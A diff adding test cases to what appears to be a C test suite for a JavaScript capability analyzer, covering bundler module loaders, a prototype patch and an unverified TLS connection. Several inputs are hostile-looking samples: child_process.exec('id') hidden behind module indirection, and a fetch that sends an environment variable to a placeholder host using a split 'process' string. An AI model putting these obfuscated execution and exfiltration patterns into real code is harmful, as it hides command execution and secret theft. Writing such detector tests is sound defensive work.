@@ -6,7 +6,32 @@
 
 #define NOTHING "capability\nflow\naws-call\nendpoint"
 
+/* Modules of a bundle, by number, by path and in a list: each loads the other by the loader. */
+#define LOADER                                                                                     \
+    "function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};"             \
+    "return e[n](s,s.exports,r),s.exports}"
+#define LOADER_4                                                                                   \
+    "function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};"                  \
+    "return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}"
+
 static const struct behavior_case cases[] = {
+    { "(()=>{var e={17:(e,t,r)=>{const n=r(42);e.exports={a:()=>n.get('http://a.invalid')}},"
+      "42:e=>{e.exports=require('http')}},t={};" LOADER "r(17).a()})();",
+      "capability network http.get http://a.invalid", NULL },
+    { "(()=>{var e={'./a.js':(e,t,r)=>{r('./b.js').exec('id')},"
+      "'./b.js':e=>{e.exports=require('child_process')}},t={};" LOADER "r('./a.js')})();",
+      "capability process child_process.exec id", NULL },
+    { "(function(e){var t={};" LOADER_4 "return n(0)})([function(e,t,n){n(1).exec('id')},"
+      "function(e){e.exports=require('child_process')}]);",
+      "capability process child_process.exec id", NULL },
+    { "(()=>{var e={1:(e,t,r)=>{r(2).a;e.exports={b:r}},2:(e,t,r)=>{r(1).b;r(2)}},t={};" LOADER
+      "r(1)})();",
+      NULL, NOTHING },
+    { "var E = require('http').Agent; function S() {}\nS.prototype = Object.create(E.prototype);\n"
+      "S.prototype.init = function() {};",
+      NULL, "patch" },
+    { "function r(){} r.g = globalThis; fetch('http://a.invalid/' + r.g['pro' + 'cess'].env.X);",
+      "capability env-read process.env X", NULL },
     /* names and aliases */
     { "require('tls').connect({ host: h, rejectUnauthorized: false });",
       "capability tls-unverified", NULL },
